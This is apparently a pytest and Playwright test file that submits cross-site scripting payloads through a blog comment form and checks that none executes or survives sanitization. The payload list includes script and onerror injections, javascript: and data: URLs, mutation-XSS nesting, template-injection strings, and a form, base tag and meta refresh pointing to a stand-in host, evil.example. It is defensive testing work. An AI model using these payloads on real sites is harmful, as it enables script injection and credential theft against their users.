"""Attacks sent through the form and looked at in the browser: nothing runs, nothing leaves its
comment.
"""

import json

import pytest
from playwright.sync_api import expect

from tests.conftest import SHARED, missing

OWN = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
        "onerror=alert(1)&gt;'>"
    ),
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    (
        "<a href='javascript:alert(1)'>x</a><a href=' jav&#x09;ascript:alert(1)'>y</a><a "
        "href=javascript:123>z</a>"
    ),
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "</div></article></section></main><h1 id=escaped>keluar</h1>",
    "<form action=//evil.example><input name=token><button>kirim</button></form>",
    "<b style='position:fixed;inset:0' class='masthead' id='comment-form'>x</b>",
    "<div data-hx-get='/admin/' data-hx-trigger='load'>x</div><b hx-get='/' hx-trigger=load>x</b>",
    (
        "<base href=//evil.example><meta http-equiv=refresh "
        "content='0;url=//evil.example'><link rel=stylesheet href=//evil.example>"
    ),
    "<template><script>alert(1)</script></template><xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]>",
    "<<script>script>alert(1)//<</script>/script>",
    '<img src="emoticons.svg#x" class="emoticon" alt=\':)\' onerror=alert(1)>',
    (
        '<img class="emoticon" src="emoticons.svg#tersenyum" alt="<script>" title="" '
        'width="20" height="20">'
    ),
    "{{7*7}} {% raw %} ${7*7} <%= 7*7 %>",
    "http://a.id/'onmouseover=alert(1)// http://a.id/\"onclick=alert(1)",
    "<ul>" * 200,
    "<b>" * 700,
    "<blockquote>" * 200 + "dalam",
    "\u202ekanan ke kiri\u202e <b>\u2066x",
    "x" * 3000,
]
FILES = ["owasp_filter_evasion.json", "blns_markup_only.json", "bleach_test_inputs.json"]
WATCH = """
window.ran = [];
for (const name of ["alert", "confirm", "prompt", "print"]) window[name] = (...words) => ran.push([name, ...words]);
"""
# What must not be in a comment's body, whatever was sent.
OUTSIDE = """() => {
  const attributes = {A: ["href", "rel"], IMG: ["class", "src", "alt", "title", "width", "height"]};
  const tags = ["A", "B", "BLOCKQUOTE", "BR", "CODE", "EM", "I", "IMG", "LI", "OL", "PRE", "STRONG", "UL"];
  const isFine = (element) => tags.includes(element.tagName)
    && [...element.attributes].every(({name}) => (attributes[element.tagName] || []).includes(name))
    && (element.tagName !== "A" || ["http:", "https:", "mailto:"].includes(element.protocol));
  return [...document.querySelectorAll(".comment__body *")].filter((element) => !isFine(element))
    .map((element) => element.outerHTML.slice(0, 200));
}"""


def payloads(file):
    """The texts of one of the shared lists, however it is built."""

    def strings(value):
        if isinstance(value, str):
            yield value
        elif isinstance(value, dict | list):
            for inner in value.values() if isinstance(value, dict) else value:
                yield from strings(inner)

    return [
        text for text in strings(json.loads((SHARED / "xss" / file).read_text())) if text.strip()
    ]


def look(page, site, address, attacks):
    """Send each attack through the form, as text and as a name, and look at what stands on the
    page.
    """
    form = {
        element.get_attribute("name"): element.input_value()
        for element in page.locator("#comment-form [name]").all()
    }
    sent = 0
    for number, attack in enumerate(attacks):
        values = {
            **form,
            "body": attack[:3000],
            "name": attack[:80],
            "website": attack[:200],
            "nonce": f"{number}",
        }
        answer = page.request.post(address, form=values, max_redirects=0)
        if answer.status == 422:
            answer = page.request.post(address, form={**values, "website": ""}, max_redirects=0)
        assert answer.status in (303, 422), (answer.status, attack)
        sent += answer.status == 303
        if number % 50 == 49 or number == len(attacks) - 1:
            inspect(page, address)
    return sent


def inspect(page, address):
    """Nothing ran, nothing escaped, and the page is still the page."""
    page.goto(address)
    page.locator(".comment a, .comment img").evaluate_all(
        "(all) => all.forEach((one) => one.dispatchEvent(new MouseEvent('mouseover')))"
    )
    assert page.evaluate("window.ran") == []
    assert page.evaluate(OUTSIDE) == []
    assert page.locator("#escaped").count() == 0
    assert page.locator("#comment-form, .masthead, main, #comments").count() == 4
    assert page.locator("#comment-list > .comment").count() == page.locator(".comment").count()
    expect(page.locator("#comment-form")).to_be_visible()
    assert page.evaluate("document.documentElement.scrollWidth") <= 360


@pytest.fixture
def watched(open_page):
    """A page on which whatever runs is noticed."""

    def watched(address):
        page = open_page(address)
        page.context.add_init_script(WATCH)
        return page

    return watched


@pytest.fixture(scope="module")
def unmoderated(serve):
    """A site that publishes everything, so that everything is looked at."""
    with serve(MODERATION="off") as site:
        yield site


def test_our_own_list(unmoderated, watched):
    address = unmoderated.article("Serangan sendiri")
    assert look(watched(address), unmoderated, address, OWN) >= len(OWN) - 4


@pytest.mark.parametrize("file", FILES)
def test_the_shared_lists(unmoderated, watched, file):
    if not (SHARED / "xss" / file).is_file():
        missing(f"shared/data/xss/{file}", "lay the shared folder beside the checkout")
    address = unmoderated.article(f"Serangan {file}")
    attacks = payloads(file)
    assert look(watched(address), unmoderated, address, attacks) > len(attacks) / 2
